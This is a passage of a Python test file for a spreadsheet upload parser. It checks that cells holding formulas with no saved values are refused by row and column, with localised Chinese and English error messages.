        ["a", "=2*3", "x"],
        ["b", "=2*2", '=""'],
        [None, None, "=A1"],
    ):
        ws.append(line)
    out = io.BytesIO()
    wb.save(out)
    saved = io.BytesIO()
    with zipfile.ZipFile(out) as zin, zipfile.ZipFile(saved, "w") as zout:
        for item in zin.infolist():
            data = zin.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b"<f>2*2</f><v />", b"<f>2*2</f><v>4</v>")
                empty = b'<c r="C3"><f>""</f><v />'
                data = data.replace(empty, empty.replace(b"<c ", b'<c t="str" '))
            zout.writestr(item, data)
    return saved.getvalue()


def test_a_formula_with_no_saved_value_is_refused_by_row_and_column() -> None:
    """openpyxl reads such a cell (data_only) as None: it passed for an empty
    cell, refused as a missing value or taken as empty. A saved value is
    read, an empty text result too; the header's formula refuses the sheet."""
    body = _formula_workbook()
    with i18n.use("zh"):
        rows = parse_upload(XLSX_TYPE, body, max_rows=10)
    assert [(r.row, r.data, r.field) for r in rows] == [
        (1, None, "amount_t"),
        (2, {"name": "b", "amount_t": "4", "note": ""}, "row"),
        (3, None, "note"),
    ]
    assert rows[0].error is not None and rows[0].error.startswith("该单元格是公式")
    assert "选择性粘贴为数值" in rows[0].error
    with i18n.use("en"):
        [first, *_] = parse_upload(XLSX_TYPE, body, max_rows=10, drop_empty_cells=True)
    assert (first.error or "").startswith("the cell is a formula with no saved value")
    header = _xlsx([["name", '=UPPER("x")'], ["a", 1]])
    with i18n.use("zh"), pytest.raises(Unprocessable) as refused:
        parse_upload(XLSX_TYPE, header, max_rows=10)
    detail = refused.value.detail
    assert detail.startswith("body: 表头单元格 B1：该单元格是公式"), detail
